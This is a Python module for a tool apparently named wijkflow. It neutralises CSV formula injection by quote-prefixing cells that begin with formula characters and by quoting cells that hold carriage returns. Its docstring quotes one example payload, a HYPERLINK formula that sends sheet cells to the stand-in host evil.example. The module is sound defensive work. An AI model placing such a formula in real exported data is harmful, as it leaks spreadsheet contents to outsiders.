"""CSV meant for spreadsheets: a cell a spreadsheet would read as a formula is written as text.

Excel, LibreOffice and Google Sheets take a cell that starts with `=`, `+`, `-` or `@` for a
formula, and some also after a leading tab or carriage return; a name like
`=HYPERLINK("http://evil.example/?"&A1,"klik")` then becomes a link that sends the sheet's
cells to someone else. OWASP's advice (CSV injection) is to put a single quote in front of such a
cell, which makes the spreadsheet show the text instead of running it. Every CSV wijkflow writes
(`--format csv` on every command, the streamed `list` and the audit export) passes each text cell
through `spreadsheet_cell`, the one place this rule lives.

A plain number stays as it is: `-3.5`, `+31`, `-1e-05` are what a spreadsheet reads as a number,
not as a formula, and an indicator's negative value or target must stay a number. "Plain" means
an optional sign, digits with at most one decimal point, an optional exponent, and nothing else
(no spaces, no second sign): `-1+1`, `-3,5` or `+31 6 1234` get the quote.

Every CSV row ends in "\n", and a cell holding a line break is quoted: csv.writer quotes only
the characters of its own line ending, so with "\n" a cell holding a lone carriage return went out
bare and a reader split the row there. `csv_writer` quotes that cell too (the one writer every CSV
uses). The raw form, cell for cell as stored, is the JSON output (`--format json`/`jsonl`), and for the
audit export also `audit query --raw-csv` (byte-exact comparisons, not for a spreadsheet).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any, TextIO

# What a spreadsheet may take for the start of a formula (OWASP: = + - @ tab CR).
FORMULA_START = frozenset("=+-@\t\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def spreadsheet_cell(text: str | None) -> str | None:
    """`text` with a single quote in front when a spreadsheet could read it as a formula; else unchanged.

    None (an empty cell) and plain numbers are returned as they are."""
    if text and text[0] in FORMULA_START and not (text[0] in "+-" and _PLAIN_NUMBER.fullmatch(text)):
        return "'" + text
    return text


class CsvWriter:
    """csv.writer(out, lineterminator="\n") that also quotes a cell holding a carriage return.

    A row with a CR in a text cell is written as csv.writer(lineterminator="\r\n") writes it
    (that quotes the cell) and ends in "\n" like every other row; other rows go the plain way.
    """

    def __init__(self, out: TextIO) -> None:
        self.out = out
        self._plain = csv.writer(out, lineterminator="\n")
        self._buf = io.StringIO()
        self._quoting = csv.writer(self._buf, lineterminator="\r\n")

    def writerow(self, row: Iterable[Any]) -> None:
        cells = list(row)
        if any(isinstance(c, str) and "\r" in c for c in cells):
            self._quoting.writerow(cells)
            text = self._buf.getvalue()
            self._buf.seek(0)
            self._buf.truncate()
            self.out.write(text[:-2] + "\n")
        else:
            self._plain.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """The rows as CsvWriter writes them."""
    buf = io.StringIO()
    CsvWriter(buf).writerows(rows)
    return buf.getvalue()
